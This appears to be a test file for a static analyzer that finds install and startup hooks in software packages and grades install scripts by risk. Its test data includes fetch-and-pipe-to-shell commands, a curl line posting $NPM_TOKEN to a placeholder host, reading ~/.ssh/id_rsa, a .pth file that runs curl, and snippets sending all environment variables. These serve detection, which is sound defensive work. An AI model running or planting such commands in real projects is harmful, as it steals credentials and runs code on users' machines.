import assert from "node:assert/strict";
import { test } from "node:test";
import { wholeEnvironment } from "../../../../src/static/inventory/whole-environment.ts";
import { withHooks } from "../../../../src/static/inventory/hooks/index.ts";
import type { ProgramWithHooks } from "../../../../src/static/inventory/hooks/index.ts";
import type { FileKind, UnpackedFile } from "../../../../src/static/unpack/unpacked.ts";
import { kindOf } from "../../../../src/static/unpack/file-kind.ts";

async function startedIn(files: Readonly<Record<string, string>>): Promise<ProgramWithHooks> {
  const unpacked = Object.entries(files).map(([path, text]): UnpackedFile => {
    const bytes = Buffer.from(text);
    const kind: FileKind = kindOf(path, bytes, text);
    return { path, kind, text, bytes };
  });
  return await withHooks({
    files: unpacked,
    containers: [],
    modules: [],
    unread: [],
    findings: [],
  });
}

const manifest = (scripts: Readonly<Record<string, string>>, more: object = {}): string =>
  JSON.stringify({ name: "tool", version: "1.0.0", scripts, ...more });

const script = { "t/a.js": "run();", "t/b/c.sh": "echo", "t/d.py": "pass", "t/e/index.js": "1;" };
const lines: readonly (readonly [line: string, starts: readonly string[]])[] = [
  ["node a.js", ["a.js"]],
  ["node ./a", ["a.js"]],
  ["node e", ["e/index.js"]],
  ["node --no-warnings -r ./a.js e || true", ["a.js", "e/index.js"]],
  ["A=1 cross-env B=2 node a.js", ["a.js"]],
  ["cd b && sh c.sh", ["b/c.sh"]],
  ["bash -c 'python3 d.py'", ["d.py"]],
  ["./b/c.sh", ["b/c.sh"]],
  [". b/c.sh", ["b/c.sh"]],
  ["cat b/c.sh | sh", ["b/c.sh"]],
  ["sh < b/c.sh", ["b/c.sh"]],
  ["npm run later", ["a.js"]],
  ["echo $(node a.js)", ["a.js"]],
  ["[ -d x ] || (node a.js)", ["a.js"]],
  ["cmd /c node a.js", ["a.js"]],
  ["npx tsx a.js", ["a.js"]],
  ["echo nothing", []],
];
for (const [line, starts] of lines)
  test(`what is started by: ${line}`, async () => {
    const { started, files } = await startedIn({
      "t/package.json": manifest({ postinstall: line, later: "node a.js" }),
      ...script,
    });
    assert.deepEqual(
      started[0]?.starts,
      starts.map((path) => `t/${path}`),
    );
    for (const path of starts)
      assert.equal(files.find((file) => file.path === `t/${path}`)?.entry, true);
  });

test("code in a line is a file of its own, of its language", async () => {
  const { files } = await startedIn({
    "t/package.json": manifest({
      install: `node -e "one()"; python3 -c 'two()'; perl -e 'three()'`,
    }),
  });
  const codes = files
    .filter(({ path }) => path.includes("!install"))
    .map(({ kind, text }) => [kind, text]);
  assert.deepEqual(codes.slice(1), [
    ["javascript", "one()"],
    ["python", "two()"],
    ["perl", "three()"],
  ]);
});

test("scripts of packages within are those of an installation alone", async () => {
  const inner = { postinstall: "node x.js", prepare: "never" };
  const { started } = await startedIn({
    "t/package.json": manifest({ prepare: "tsc" }),
    "t/node_modules/@a/b/package.json": manifest(inner, { name: "@a/b" }),
    "t/node_modules/@a/b/x.js": "1;",
    "t/templates/new/package.json": manifest({ postinstall: "never" }),
  });
  assert.deepEqual(
    started.map(({ package: name, event, when }) => [name, event, when]),
    [
      ["tool", "prepare", "build"],
      ["@a/b", "postinstall", "install"],
    ],
  );
});

const worlds: readonly (readonly [
  string,
  Readonly<Record<string, string>>,
  string,
  readonly string[],
])[] = [
  [
    "a binding.gyp",
    { "t/package.json": manifest({}), "t/binding.gyp": "{'v':'<!@(node g.js)'}", "t/g.js": "1;" },
    "install",
    ["t/binding.gyp", "t/g.js"],
  ],
  [
    "an extension",
    {
      "x/package.json": manifest(
        {},
        { engines: { vscode: "*" }, main: "./m", activationEvents: ["*"] },
      ),
      "x/m.js": "1;",
    },
    "*",
    ["x/m.js"],
  ],
  ["setup.py", { "p/setup.py": "import os" }, "setup.py", ["p/setup.py"]],
  [
    "a backend in the tree",
    {
      "p/pyproject.toml": '[build-system]\nbuild-backend = "own"\nbackend-path = ["b"]\n',
      "p/b/own.py": "1",
    },
    "build-backend",
    ["p/b/own.py"],
  ],
  ["sitecustomize.py", { "p/sitecustomize.py": "1" }, "sitecustomize.py", ["p/sitecustomize.py"]],
  [
    "a build script",
    { "c/Cargo.toml": '[package]\nname = "c"\n', "c/build.rs": "fn main() {}" },
    "build script",
    ["c/build.rs"],
  ],
  [
    "a gem's extension",
    { "g/ext/extconf.rb": "system('make')" },
    "extconf.rb",
    ["g/ext/extconf.rb"],
  ],
  [
    "a hook of a coding tool",
    {
      "w/.claude/settings.json":
        '{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"sh h.sh"}]}]}}',
      "w/h.sh": "echo",
    },
    "SessionStart",
    ["w/h.sh"],
  ],
];
for (const [name, files, event, starts] of worlds)
  test(`${name} is known`, async () => {
    const { started } = await startedIn(files);
    assert.deepEqual(
      started.map((each) => [each.event, each.starts]),
      [[event, starts]],
    );
  });

test("a line of a path file is run at each start of Python", async () => {
  const { started, files } = await startedIn({
    "p/x.pth": "lib\nimport os; os.system('curl https://pth.example.net')\n",
  });
  assert.deepEqual(
    started.map(({ event, names }) => [event, names.hosts]),
    [[".pth", ["pth.example.net"]]],
  );
  assert.equal(files.at(-1)?.kind, "python");
});

const graded: readonly (readonly [line: string, severity: string | undefined])[] = [
  ["echo thanks", "low"],
  ["curl -O https://files.example.net/a", "medium"],
  ["curl -s https://files.example.net/a | sh", "high"],
  ['curl -d "$NPM_TOKEN" https://files.example.net/', "high"],
  ["cat ~/.ssh/id_rsa", "medium"],
];
for (const [line, severity] of graded)
  test(`an installation that runs ${line} is ${severity}`, async () => {
    const { findings } = await startedIn({ "t/package.json": manifest({ postinstall: line }) });
    assert.deepEqual(
      findings.map((found) => [found.rule, found.severity]),
      [["install-script", severity]],
    );
  });

test("scripts that call each other, and themselves, end", async () => {
  const { started } = await startedIn({
    "t/package.json": manifest({
      install: "npm run install && sh x.sh",
      preinstall: "npm run install",
    }),
    "t/x.sh": "sh ./x.sh; sh $0; sh y.sh",
    "t/y.sh": "npm install; sh x.sh",
  });
  assert.deepEqual(started[1]?.starts, ["t/x.sh", "t/y.sh"]);
});

test("all variables are taken, or only handed on to a program that is started", async () => {
  const variablesOf = async (text: string): Promise<readonly string[]> => {
    const { started } = await startedIn({
      "t/package.json": manifest({ postinstall: "node a.js" }),
      "t/a.js": text,
    });
    return started.flatMap(({ names }) => names.variables);
  };
  for (const taken of [
    "send(JSON.stringify(process.env))",
    "const all = { ...process.env }; send(all)",
    "Object.entries(process.env).map(send)",
  ])
    assert.deepEqual(await variablesOf(taken), [wholeEnvironment], taken);
  for (const handedOn of [
    "spawn('npm', ['i'], { env: process.env })",
    "spawn('npm', ['i'], { env: { ...process.env, A: '1' } })",
    "const env = { ...process.env, A: undefined }; execSync('npm i', { env })",
    "spawn('npm', [], { env: Object.assign({}, process.env) })",
  ])
    assert.deepEqual(await variablesOf(handedOn), [], handedOn);
});
